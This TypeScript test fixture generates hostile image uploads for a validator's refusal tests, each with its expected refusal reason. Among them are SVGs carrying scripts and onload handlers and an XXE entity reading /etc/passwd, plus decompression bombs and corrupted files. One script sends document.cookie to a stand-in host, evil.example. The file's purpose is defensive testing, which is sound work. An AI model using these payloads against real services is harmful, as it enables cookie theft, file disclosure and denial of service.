import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import type { ImageRefused } from '#platform/files/images/refusals.ts';
import { forgeArchive } from '../archives/archive-forge.ts';
import { isoBox, isoMedia, PNG_MAGIC, patched, pngChunk, pngOf } from './forged-images.ts';

/** For tests: what is wrong with a picture, the reason it must be refused for, and how to make it. */
export type HostileImage = [
  what: string,
  reason: ImageRefused['reason'],
  make: () => Buffer | string | Promise<Buffer>,
];

/** Noise, so that a file cut in half has lost pixels and not only zeros. */
export const noise = (width: number, height: number) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#336699',
      noise: { type: 'gaussian', mean: 120, sigma: 40 },
    },
  });
const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const half = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);

/** A JPEG whose frame header says another size. */
const jpegOf = async (width: number, height: number) =>
  patched(await noise(64, 64).jpeg().toBuffer(), Buffer.from([0xff, 0xc0, 0x00, 0x11]), (at, copy) => {
    copy.writeUInt16BE(height, at + 5);
    copy.writeUInt16BE(width, at + 7);
  });

/** An AVIF whose properties say another size. */
const avifOf = async (width: number, height: number) =>
  patched(await noise(64, 64).avif({ effort: 0 }).toBuffer(), Buffer.from('ispe'), (at, copy) => {
    copy.writeUInt32BE(width, at + 8);
    copy.writeUInt32BE(height, at + 12);
  });

/** A GIF whose screen and frame say another size. */
const gifOf = async (width: number, height: number) => {
  const gif = await noise(64, 64).gif().toBuffer();
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 64, 0, 64, 0]);
  return patched(gif, frame, (at, copy) => {
    for (const place of [6, at + 5]) {
      copy.writeUInt16LE(width, place);
      copy.writeUInt16LE(height, place + 2);
    }
  });
};

const animation = (frames: number) => {
  const pixels = Buffer.alloc(4 * 4 * frames * 3);
  for (let i = 0; i < frames; i += 1) pixels.fill(i % 2 === 0 ? 0 : 255, i * 48, i * 48 + 48);
  return sharp(pixels, { raw: { width: 4, height: 4 * frames, channels: 3, pageHeight: 4 } });
};

/** For tests: pictures that nobody may be shown (rule F2). */
export const HOSTILE_IMAGES: HostileImage[] = [
  // scripts
  ['an SVG', 'unsupported_type', () => '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'],
  [
    'an SVG with a script',
    'unsupported_type',
    () => `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  ],
  [
    'an SVG with a handler',
    'unsupported_type',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  ],
  [
    'an SVG with an XML head',
    'unsupported_type',
    () => '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
  [
    'an SVG that reads files',
    'unsupported_type',
    () =>
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  ],
  [
    'an SVG behind a comment',
    'unsupported_type',
    () => `<!--${'-'.repeat(5000)} --><svg xmlns="http://www.w3.org/2000/svg"/>`,
  ],
  [
    'an SVG in UTF-16',
    'unsupported_type',
    () => Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>', 'utf16le'),
  ],
  ['an SVG that is packed', 'unsupported_type', () => gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a page', 'unsupported_type', () => `<!doctype html>${script}`],
  [
    'a drawing script of ImageMagick',
    'unsupported_type',
    () => 'push graphic-context\nviewbox 0 0 9 9\nfill "url(https://evil.example/)"\npop graphic-context',
  ],
  ['PostScript', 'unsupported_type', () => '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage'],
  ['a script that begins like a GIF', 'damaged', () => `GIF89a/*${'\0'.repeat(20)}*/=alert(1)//`],
  ['a script that begins like a BMP', 'unsupported_type', () => 'BM=alert(1)//'],
  // of another type
  ['a PDF', 'unsupported_type', () => '%PDF-1.7\n%%EOF'],
  ['a text', 'unsupported_type', () => 'hello'],
  ['an empty file', 'unsupported_type', () => ''],
  ['an archive', 'unsupported_type', () => forgeArchive([{ name: 'a.png', data: 'x' }])],
  ['a program of Windows', 'unsupported_type', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
  [
    'a program of Linux',
    'unsupported_type',
    () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(500)]),
  ],
  ['a TIFF', 'unsupported_type', () => noise(30, 20).tiff().toBuffer()],
  [
    'an icon',
    'unsupported_type',
    () => Buffer.concat([Buffer.from('000001000100', 'hex'), Buffer.alloc(200)]),
  ],
  [
    'a PSD',
    'unsupported_type',
    () => Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), Buffer.alloc(200)]),
  ],
  [
    'a JPEG XL',
    'unsupported_type',
    () => Buffer.concat([Buffer.from('0000000c4a584c200d0a870a', 'hex'), Buffer.alloc(200)]),
  ],
  [
    'a JPEG 2000',
    'unsupported_type',
    () => Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(200)]),
  ],
  ['a bitmap of plain numbers', 'unsupported_type', () => 'P3 2 1 255 255 0 0 0 255 0'],
  ['a HEIC', 'unsupported_type', () => isoMedia('heic', isoBox('mdat', Buffer.alloc(90)))],
  ['a film', 'unsupported_type', () => isoMedia('isom', isoBox('mdat', Buffer.alloc(90)))],
  // bombs
  ['a PNG of 20,000 x 20,000', 'too_many_pixels', () => pngOf(20_000, 20_000)],
  ['a PNG of 41 megapixels', 'too_many_pixels', () => pngOf(8200, 5000)],
  ['a PNG of 17,000 on a side', 'side_too_long', () => pngOf(17_000, 10)],
  ['a PNG of two thousand million on a side', 'damaged', () => pngOf(0x7fffffff, 0x7fffffff)],
  ['a PNG of no width', 'damaged', () => pngOf(0, 10)],
  ['a JPEG of 65,500 x 65,500', 'too_many_pixels', () => jpegOf(65_500, 65_500)],
  ['a JPEG of 65,500 x 64', 'side_too_long', () => jpegOf(65_500, 64)],
  ['a GIF of 65,535 x 65,535', 'too_many_pixels', () => gifOf(65_535, 65_535)],
  ['an AVIF of 60,000 x 60,000', 'too_many_pixels', () => avifOf(60_000, 60_000)],
  ['a GIF of 501 frames', 'too_many_pages', () => animation(501).gif().toBuffer()],
  ['a WebP of 501 frames', 'too_many_pages', () => animation(501).webp({ effort: 0 }).toBuffer()],
  // damaged, so that decoders go astray
  ['a PNG in name only', 'damaged', () => Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDRrubbish', 'latin1')],
  [
    'a PNG without a header',
    'unsupported_type',
    () => Buffer.concat([PNG_MAGIC, pngChunk('IEND', Buffer.alloc(0))]),
  ],
  ['a PNG whose data ends early', 'damaged', () => pngOf(3000, 3000)],
  [
    'a PNG with a wrong checksum',
    'damaged',
    async () =>
      patched(await noise(60, 60).png().toBuffer(), Buffer.from('IDAT'), (at, copy) =>
        copy.writeUInt8(copy.readUInt8(at + 40) ^ 1, at + 40),
      ),
  ],
  ['a JPEG cut in half', 'damaged', async () => half(await noise(300, 200).jpeg().toBuffer())],
  ['a PNG cut in half', 'damaged', async () => half(await noise(300, 200).png().toBuffer())],
  ['a WebP cut in half', 'damaged', async () => half(await noise(300, 200).webp().toBuffer())],
  ['an AVIF cut in half', 'damaged', async () => half(await noise(300, 200).avif().toBuffer())],
  ['a GIF cut in half', 'damaged', async () => half(await noise(300, 200).gif().toBuffer())],
  ['a JPEG of nothing but its mark', 'damaged', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16])],
  [
    'a WebP whose length lies',
    'damaged',
    async () =>
      patched(await noise(60, 60).webp().toBuffer(), Buffer.from('VP8 '), (at, copy) =>
        copy.writeUInt32LE(0x7ffffff0, at + 4),
      ),
  ],
];

/** A picture with a text chunk that unpacks to this number of bytes. */
export const withTextBomb = (picture: Buffer, bytes: number): Buffer => {
  const chunk = pngChunk(
    'zTXt',
    Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(bytes))]),
  );
  return Buffer.concat([picture.subarray(0, 33), chunk, picture.subarray(33)]);
};

/** A picture with a colour profile that unpacks to this number of bytes. */
export const withProfileBomb = (picture: Buffer, bytes: number): Buffer => {
  const chunk = pngChunk(
    'iCCP',
    Buffer.concat([Buffer.from('icc\0\0', 'latin1'), deflateSync(Buffer.alloc(bytes))]),
  );
  return Buffer.concat([picture.subarray(0, 33), chunk, picture.subarray(33)]);
};
